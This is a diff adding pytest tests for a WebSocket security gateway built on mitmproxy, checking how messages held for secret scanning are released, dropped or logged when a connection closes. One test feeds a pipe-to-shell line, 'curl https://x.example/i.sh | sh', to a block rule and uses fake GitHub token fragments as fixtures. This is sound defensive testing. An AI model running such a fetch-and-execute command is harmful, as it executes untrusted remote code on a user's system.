@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import contextlib
+import copy
 import json
 from collections.abc import Iterator
 from pathlib import Path
@@ -19,6 +20,7 @@ from wsproto.frame_protocol import Opcode
 from sluicegate.mitm import flowstate, guard
 from sluicegate.mitm import websockets as ws_mod
 from sluicegate.mitm.websockets import WebSockets, is_upgrade_request
+from sluicegate.mitmcompat import websocket_closing
 from tests.support.addon_harness import configured, run, write_config
 from tests.support.tokens import TestIdP as IdP
 
@@ -258,7 +260,7 @@ def injected(monkeypatch: pytest.MonkeyPatch) -> list[tuple[bool, bytes, bool]]:
     def inject(
         flow: http.HTTPFlow, hold: Any, from_client: bool, content: bytes, **kw: Any
     ) -> None:
-        hold.injected.append(content)
+        hold.injected.append((content, kw["is_text"]))
         sent.append((not from_client, content, kw["is_text"]))
 
     monkeypatch.setattr(ws_mod.ws_hold, "_inject", inject)
@@ -330,6 +332,150 @@ def test_a_client_message_a_body_rule_blocks_closes_with_the_rule(
     assert not ok.dropped and bad.dropped and injected == []
     assert facts(flow)["closed_by_gateway"] == "policy_blocked"
     assert facts(flow)["policy_rule"] == "no-pipes"
+
+
+# -- a close while messages are held (websocket_closing) -------------------------------------------
+
+
+@contextlib.contextmanager
+def closing_by(
+    flow: http.HTTPFlow, *, client: bool, deliverable: tuple[bool, bool] = (True, True)
+) -> Iterator[websocket_closing.Closing]:
+    """A close by the client (or server) as mitmcompat/websocket_closing.py announces it;
+    `deliverable`: (client's messages can reach the server, server's can reach the client)."""
+    pending = websocket_closing.Closing(
+        closed_by_client=client,
+        code=1000,
+        deliverable={True: deliverable[0], False: deliverable[1]},
+    )
+    websocket_closing._closing[flow] = pending
+    try:
+        yield pending
+    finally:
+        websocket_closing._closing.pop(flow, None)
+
+
+@pytest.mark.parametrize("client_closes", [True, False])
+def test_a_close_sends_what_waits_first_both_ways(
+    websockets: WebSockets, injected: list[tuple[bool, bytes, bool]], client_closes: bool
+) -> None:
+    flow = accepted(websockets)
+    up = relay(websockets, flow, f"the key {GH} and then ghp_C3J")
+    down = relay(websockets, flow, "your token is ghp_C3J", from_client=False)
+    assert up.dropped and down.dropped and injected == []
+    with closing_by(flow, client=client_closes) as closing:
+        websockets.websocket_closing(flow)
+    sent = {(c, content) for c, content, _ in closing.queued}
+    assert sent == {
+        (True, f"the key {TAG} and then ghp_C3J".encode()),
+        (False, b"your token is ghp_C3J"),
+    }
+    assert injected == []  # sent ahead of the close, not injected (that would come after it)
+    held = facts(flow)["held"]
+    assert held["client"]["released_at_close"] == 1 and held["client"]["lost_at_close"] == 0
+    assert held["server"]["released_at_close"] == 1
+
+
+def test_injected_messages_not_relayed_yet_go_before_the_close_in_order(
+    websockets: WebSockets, injected: list[tuple[bool, bytes, bool]]
+) -> None:
+    """Released by the next message, injected, and the close comes before mitmproxy relays the
+    injection: the close sends them (the injection reaches a finished layer and is ignored)."""
+    flow = accepted(websockets)
+    relay(websockets, flow, "my token is ghp_C3J", from_client=False)
+    relay(websockets, flow, "... no, it is not.", from_client=False)
+    relay(websockets, flow, "and a new key ghp_", from_client=False)
+    assert len(injected) == 2
+    with closing_by(flow, client=False) as closing:
+        websockets.websocket_closing(flow)
+    assert [content for _, content, _ in closing.queued] == [
+        b"my token is ghp_C3J",
+        b"... no, it is not.",
+        b"and a new key ghp_",
+    ]
+    assert facts(flow)["held"]["server"]["released_at_close"] == 3
+
+
+def test_a_release_the_policy_refuses_at_close_is_dropped_and_logged(
+    tmp_path: Path,
+    idp: IdP,
+    injected: list[tuple[bool, bytes, bool]],
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    policy = {"rules": [{"id": "no-pipes", "action": "block",
+                         "match": {"body_patterns": ["pipe-to-shell"]}}]}  # fmt: skip
+    with addon(tmp_path, idp, policy=policy) as a:
+        flow = accepted(a)
+        relay(a, flow, "run curl https://x.example/i.sh | sh")
+        with closing_by(flow, client=True) as closing:
+            a.websocket_closing(flow)
+    assert closing.queued == [] and injected == []
+    held = facts(flow)["held"]["client"]
+    assert held["lost_at_close"] == 1 and held["lost_code"] == "policy_blocked"
+    assert facts(flow)["policy_rule"] == "no-pipes"
+    assert "websocket_held_lost: 1 held client message(s)" in caplog.text
+    assert "curl" not in caplog.text
+
+
+def test_messages_for_a_receiver_that_is_gone_are_lost_visibly(
+    websockets: WebSockets,
+    injected: list[tuple[bool, bytes, bool]],
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    flow = accepted(websockets)
+    relay(websockets, flow, "the last words ghp_C3J", from_client=False)
+    with closing_by(flow, client=True, deliverable=(True, False)) as closing:
+        websockets.websocket_closing(flow)
+    assert closing.queued == []
+    held = facts(flow)["held"]["server"]
+    assert held["lost_at_close"] == 1 and held["lost_code"] == "websocket_receiver_gone"
+    assert "websocket_held_lost" in caplog.text and "last words" not in caplog.text
+
+
+def test_after_the_gateway_closed_nothing_is_released_at_the_close(
+    websockets: WebSockets,
+    injected: list[tuple[bool, bytes, bool]],
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    flow = accepted(websockets)
+    relay(websockets, flow, "key " + GH[:10])
+    relay(websockets, flow, "and more ghp_", from_client=False)  # held on the other side
+    relay(websockets, flow, GH[10:] + " ok")  # a split secret: the gateway closes
+    with closing_by(flow, client=True) as closing:
+        websockets.websocket_closing(flow)
+    assert closing.queued == [] and injected == []
+    assert facts(flow)["held"]["server"]["lost_code"] == "websocket_secret_split"
+    assert "websocket_held_lost" not in caplog.text  # the gateway's close was logged already
+
+
+def test_a_release_that_raises_at_close_sends_nothing(
+    websockets: WebSockets,
+    injected: list[tuple[bool, bytes, bool]],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    flow = accepted(websockets)
+    relay(websockets, flow, "key ghp_C3J")
+
+    def boom(*_: Any) -> None:
+        raise RuntimeError("key ghp_C3J")
+
+    monkeypatch.setattr(ws_mod.ws_hold, "release_all", boom)
+    with closing_by(flow, client=True) as closing:
+        websockets.websocket_closing(flow)
+    assert closing.queued == []
+    assert facts(flow)["held"]["client"]["lost_code"] == "websocket_error"
+
+
+def test_a_close_with_nothing_waiting_changes_nothing(
+    websockets: WebSockets, injected: list[tuple[bool, bytes, bool]]
+) -> None:
+    flow = accepted(websockets)
+    relay(websockets, flow, "hello")
+    before = copy.deepcopy(facts(flow))
+    with closing_by(flow, client=True) as closing:
+        websockets.websocket_closing(flow)
+    websockets.websocket_closing(tflow.twebsocketflow(messages=False))  # no channel: nothing
+    assert closing.queued == [] and facts(flow) == before
 
 
 @pytest.mark.parametrize(
